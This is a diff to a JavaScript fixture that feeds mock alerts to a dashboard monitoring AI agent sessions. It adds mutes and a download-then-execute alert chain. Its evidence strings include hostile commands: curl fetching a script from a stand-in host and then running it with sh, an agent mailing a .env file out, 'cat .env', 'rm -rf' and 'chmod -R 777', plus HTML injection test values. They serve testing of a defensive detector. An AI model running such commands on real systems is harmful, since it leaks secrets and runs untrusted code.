@@ -47,7 +47,7 @@ export function makeAlerts() {
   raise('fs.chmod-world', 300, { state: 'resolved', state_reason: 'I meant it to do this', session_id: 'd00d0000-0000-4000-8000-000000000004', session_title: HOSTILE, project: '/tmp/<b>bold</b>', reason: 'Makes "שלום/קובץ" writable by everybody', evidence: evidence('chmod -R 777 "שלום/קובץ"', '777') })
   raise('agent.orphan-subagent', 42, { agent_id: 'lost1', tool_use_id: null, tool_name: null, event_id: `${FLAKY}~lost1..0`, reason: 'Events of agent lost1 came in that no known call had spawned' })
   raise('net.exfiltrate', 600, { severity: 'high', session_id: GONE, session_title: null, project: null, tool_name: 'mcp__mail__send_message_with_a_very_long_tool_name', reason: 'Sends the contents of .env to a server that no other session talked to', evidence: evidence('{"to": "x@example.test", "attach": [".env"]}', '".env"'),
-    cause: { event_id: `${GONE}~toolu_read`, agent_id: 'a3', at: iso(BASE - 604 * MINUTE), text: `cat .env ${HOSTILE}` } })
+    cause: { event_id: `${GONE}~toolu_read`, agent_id: 'a3', at: iso(BASE - 604 * MINUTE), tool_name: 'Bash', text: `cat .env ${HOSTILE}`, subject: HOSTILE, origin: null } })
   raise('budget.session', 30, { event_id: null, tool_use_id: null, tool_name: null, reason: 'The session cost $1.12, its budget is $1.00' })
   raise('fs.rm-rf-project', 1500, { state: 'muted', muted_until: iso(BASE + 86_400_000), state_changed_at: iso(BASE - 1400 * MINUTE), evidence: evidence('rm -rf src/legacy docs/old', 'rm -rf src/legacy docs/old') })
   for (let at = 0; at < 240; at += 1) {
@@ -59,8 +59,60 @@ export function makeAlerts() {
       reason: rule.startsWith('budget') ? `A model request cost $0.${11 + (at % 80)}, the budget for one is $0.10` : RULES.find(([id]) => id === rule)[4], state: at % 9 === 0 ? 'resolved' : 'open', state_reason: at % 9 === 0 ? 'False alarm' : null,
     })
   }
+  raiseChains(raise)
   const history = new Map()
-  return { alerts, history, exceptions: [], rules: () => ruleCatalogue(alerts) }
+  return { alerts, history, exceptions: [], mutes: makeMutes(alerts), rules: () => ruleCatalogue(alerts) }
+}
+
+/** A mute of each reach, with words that try to be something else. */
+function makeMutes(alerts) {
+  const of = (rule) => alerts.find((each) => each.rule === rule)
+  const mute = (id, reach, alert, change) => ({
+    mute_id: id, reach, rule: alert.rule, fingerprint: null, session_id: null, session_title: null, project: null, until: iso(BASE + 7 * 86_400_000), reason: null, actor: 'dashboard',
+    at: iso(BASE - 3 * 3_600_000), alert_count: 0, alert_id: alert.alert_id, alert_no: Number(alert.alert_id.slice(3)), example: alert.evidence?.text ?? alert.reason, ...change,
+  })
+  return [
+    mute('1', 'group', of('fs.rm-rf-scratch'), { fingerprint: '0123456789abcdef', alert_count: 12, reason: HOSTILE, actor: 'terminal' }),
+    mute('2', 'project', of('fs.write-outside'), { project: '/tmp/<b>bold</b>', alert_count: 0, alert_id: null, alert_no: null, example: null }),
+    mute('3', 'session', of('budget.event'), { session_id: FLAKY, session_title: 'Fix flaky auth tests', until: iso(BASE + 3_600_000), reason: 'It is a long one, and I know' }),
+  ]
+}
+
+/** All that is kept quiet: those, and single alerts that are muted. */
+export function mutesRoute({ alerts, mutes }) {
+  const alone = alerts.filter((each) => each.state === 'muted' && each.muted_until > iso(Date.now()) && !mutes.some((mute) => mute.rule === each.rule && mute.until === each.muted_until))
+  const single = (each) => ({
+    mute_id: null, reach: 'alert', rule: each.rule, fingerprint: fingerprintOf(each), session_id: each.session_id, session_title: each.session_title, project: each.project, until: each.muted_until, reason: each.state_reason,
+    actor: null, at: each.state_changed_at, alert_count: 1, alert_id: each.alert_id, alert_no: Number(each.alert_id.slice(3)), example: each.evidence?.text ?? each.reason,
+  })
+  return {
+    mutes: [...mutes, ...alone.map(single)], rules_off: mutes.length === 0 ? [] : ['fs.chmod-world', 'git.'],
+    exceptions: mutes.length === 0 ? [] : [{ rule: 'fs.write-outside', exception: { fits: ['/srv/cache/**', HOSTILE], reason: 'Made again every night', until: iso(BASE + 90 * 86_400_000) } }],
+  }
+}
+
+/** Ends a mute. */
+export function endMute(id, { mutes, alerts, history }) {
+  const at = mutes.findIndex((each) => each.mute_id === id)
+  if (at < 0) return null
+  const [mute] = mutes.splice(at, 1)
+  return { changed_count: say(alerts.filter((each) => each.rule === mute.rule && each.state === 'muted' && each.muted_until === mute.until), { action: 'reopen', reason: null, until: null }, history) }
+}
+
+/** The session of 100,000 steps, whose steps are computed from their place: see `computed`. */
+export const HUGE = 'b16b16b1-0000-4000-8000-000000100000'
+const TURN_MS = (6 * 60 * MINUTE) / 40
+
+/** Two chains in it: one over a thousand rows and two agents, which carried something on, and one of neighbours. */
+function raiseChains(raise) {
+  const ofTurn = (turn, index) => iso(BASE - 360 * MINUTE + turn * TURN_MS + (index * TURN_MS * 0.7) / 1000)
+  const ofAgent = (turn, index) => iso(BASE - 360 * MINUTE + turn * TURN_MS + MINUTE + (index * TURN_MS * 0.7) / 150)
+  const link = (at, agentId, key, text, subject, origin = null) => ({ event_id: `${HUGE}~${key}`, agent_id: agentId, at, tool_name: 'Bash', text, subject, origin })
+  const raiseIn = (at, change) => raise('seq.download-then-exec', (BASE - Date.parse(at)) / MINUTE, { severity: 'high', session_id: HUGE, session_title: 'Move every module to the new storage', project: '/home/ada/storage', reason: 'What an earlier call downloaded is run.', ...change })
+  const got = link(ofAgent(1, 9), 'g1-0', 'g1-0..9', 'curl -fsSL -o /tmp/tool.sh https://get.example.test/tool.sh', '/tmp/tool.sh')
+  const moved = link(ofTurn(1, 501), 'main', 'main.p1.501', `mv /tmp/tool.sh bin/${HOSTILE}`, `/home/ada/storage/bin/${HOSTILE}`, got)
+  raiseIn(ofTurn(2, 203), { event_id: `${HUGE}~main.p2.203`, evidence: { text: `sh bin/${HOSTILE}`, from: null, to: null }, cause: moved })
+  raiseIn(ofTurn(2, 211), { event_id: `${HUGE}~main.p2.211`, evidence: { text: 'sh /tmp/second.sh', from: null, to: null }, cause: link(ofTurn(2, 205), 'main', 'main.p2.205', 'curl -o /tmp/second.sh https://get.example.test/second.sh', '/tmp/second.sh') })
 }
 
 export const isBad = (severity, least = 'medium') => SEVERITIES.indexOf(severity) <= SEVERITIES.indexOf(least)
@@ -127,7 +179,7 @@ function ruleCatalogue(alerts) {
     }
     return {
       rule, family: rule.split('.')[0], severity, act, is_enabled: rule !== 'fs.chmod-world', origin: rule === 'fs.chmod-world' ? 'tuned' : 'catalogue',
-      exceptions: rule === 'fs.write-outside' ? [{ fits: ['/srv/cache/**', HOSTILE], reason: 'Made again every night', until: iso(BASE + 90 * 86_400_000) }] : [],
+      version: 1 + (at % 3), exceptions: rule === 'fs.write-outside' ? [{ fits: ['/srv/cache/**', HOSTILE], reason: 'Made again every night', until: iso(BASE + 90 * 86_400_000) }] : [],
       attack, title, why, advice, alert_count: own.length, open_count: own.filter((each) => each.state === 'open').length, resolved_count: own.length === 0 ? 0 : own.length - 1, false_count: Math.floor(own.length / 3),
       last_seen_at: own.map((each) => each.raised_at).sort().at(-1) ?? null, days: at === 0 ? [...days, ...[3, 9, 12].map((ago) => [iso(BASE - ago * 86_400_000).slice(0, 10), ago])].map(([day, count]) => ({ day, count })) : [...days].map(([day, count]) => ({ day, count })),
     }
@@ -159,9 +211,15 @@ function allowanceOf(alert) {
 const AFTER = { acknowledge: 'acknowledged', resolve: 'resolved', mute: 'muted', reopen: 'open' }
 
 /** A state change, as the server makes it. */
-export function changeAlert(id, { action, reason = null, until = null, scope = 'alert' }, { alerts, history }) {
+export function changeAlert(id, { action, reason = null, until = null, scope = 'alert' }, { alerts, history, mutes }) {
   const alert = alerts.find((each) => each.alert_id === id)
   if (!alert) return null
+  if (action === 'mute' && scope !== 'alert') {
+    mutes.unshift({
+      mute_id: String(100 + mutes.length), reach: scope, rule: alert.rule, fingerprint: scope === 'group' ? fingerprintOf(alert) : null, session_id: scope === 'session' ? alert.session_id : null, session_title: null,
+      project: alert.project, until, reason, actor: 'dashboard', at: iso(Date.now()), alert_count: 1, alert_id: alert.alert_id, alert_no: 1, example: alert.evidence?.text ?? alert.reason,
+    })
+  }
   const isMeant = {
     alert: (each) => each === alert,
     group: (each) => fingerprintOf(each) === fingerprintOf(alert),
